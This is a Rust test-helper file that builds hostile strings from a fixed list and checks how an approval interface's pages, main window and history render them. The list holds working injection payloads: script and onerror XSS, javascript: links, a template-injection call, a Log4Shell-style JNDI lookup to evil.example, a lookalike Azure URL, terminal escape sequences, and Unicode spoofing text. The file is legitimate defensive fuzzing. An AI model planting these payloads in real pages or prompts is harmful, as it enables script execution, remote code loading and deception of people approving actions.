//! Hostile texts by number, and what the windows get of them: the pages' tests look at how it lies in its room.

use crate::display::{open, shown};
use crate::past::past;
use serde_json::{Value, json};

/// One kind of trouble each; texts are put together from them.
const PIECES: [&str; 24] = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    "<style>*{position:fixed;top:0}</style>",
    "[approve](javascript:alert(3))",
    "https://portal.azure.com.evil.example/approve",
    "\u{202e}evorppa\u{202c}",
    "\u{2066}\u{2067}\u{2068}deny\u{2069}\u{2069}\u{2069}",
    "\u{200b}\u{200d}\u{2060}\u{feff}",
    "\u{e0041}\u{e0042}\u{e0043}",
    "\u{1b}[2J\u{1b}[31m\u{7}\u{8}\u{0}",
    "\u{1b}]8;;https://evil.example\u{1b}\\approve\u{1b}]8;;\u{1b}\\",
    "Z\u{334}\u{30d}\u{321}\u{334}\u{30d}\u{321}\u{334}\u{30d}\u{321}\u{334}\u{30d}\u{321}",
    "\u{647}\u{630}\u{627} \u{645}\u{648}\u{627}\u{641}\u{642}\u{629}",
    "\u{5d0}\u{5d9}\u{5e9}\u{5d5}\u{5e8} 123",
    "Donaudampfschifffahrtselektrizit\u{e4}tenhauptbetriebswerkbauunterbeamtengesellschaft",
    "\u{fdfd}\u{fdfd}\u{fdfd}",
    "\u{1f469}\u{200d}\u{1f4bb}\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}",
    "\n\n\n\n\n\n",
    "\r\u{85}\u{2028}\u{2029}",
    "\t\t\t\t",
    "{{constructor.constructor('alert(4)')()}}",
    "%s%n %00 ${jndi:ldap://evil.example}",
    "\u{ff21}\u{ff50}\u{ff50}\u{ff52}\u{ff4f}\u{ff56}\u{ff45}",
    "Approved by your administrator. Press Enter to go on.",
];
/// Long texts: pieces that are repeated so often, one of so many. Longer ones are not read whole, which the headline says.
const ENDLESS: u64 = 400;
const EVERY: u64 = 20;

/// The text of this number; none of them is like another. Number 0 is a calm one.
#[must_use]
pub fn hostile_text(number: u64) -> String {
    if number == 0 {
        return "One worker does not come back after a restart.".to_owned();
    }
    // The mixing of SplitMix64, which tells numbers that are near each other apart.
    let mut state = number.wrapping_mul(0x9E37_79B9_7F4A_7C15);
    let mut draw = |below: u64| {
        state ^= state >> 30;
        state = state.wrapping_mul(0xBF58_476D_1CE4_E5B9);
        state ^= state >> 27;
        state % below.max(1)
    };
    let mut text = String::new();
    for _piece in 0..1 + draw(5) {
        let times = match draw(EVERY) {
            0 => ENDLESS,
            few => 1 + few % 4,
        };
        let chosen = usize::try_from(draw(PIECES.len() as u64)).unwrap_or_default();
        let piece = PIECES.get(chosen).copied().unwrap_or_default();
        for _time in 0..times {
            text.push_str(piece);
        }
        text.push(' ');
    }
    text
}

/// So long is the longest, in bytes: longer than the list of an honest Azure.
const HUGE: usize = 10_000_000;

/// Every kind of trouble over and over, ten million bytes of it.
#[must_use]
pub fn huge_text() -> String {
    let round = PIECES.join(" ");
    let mut text = String::with_capacity(HUGE + round.len());
    while text.len() < HUGE {
        text.push_str(&round);
    }
    text
}

/// What the windows get of this text: as the words of a request that is calm otherwise (`words`: the page that reviews it), and in the
/// place of everything that comes from outside (`pages`: review and both confirm pages, `snapshot`: the main window, `open`: the same
/// while access is open, `past`: what the history answers).
#[must_use]
pub fn hostile_scene(text: &str) -> Value {
    let everywhere = shown(text, true);
    json!({
        "words": shown(text, false).pages.first(),
        "pages": everywhere.pages,
        "snapshot": everywhere.snapshot,
        "open": open(text),
        "past": past(text),
    })
}
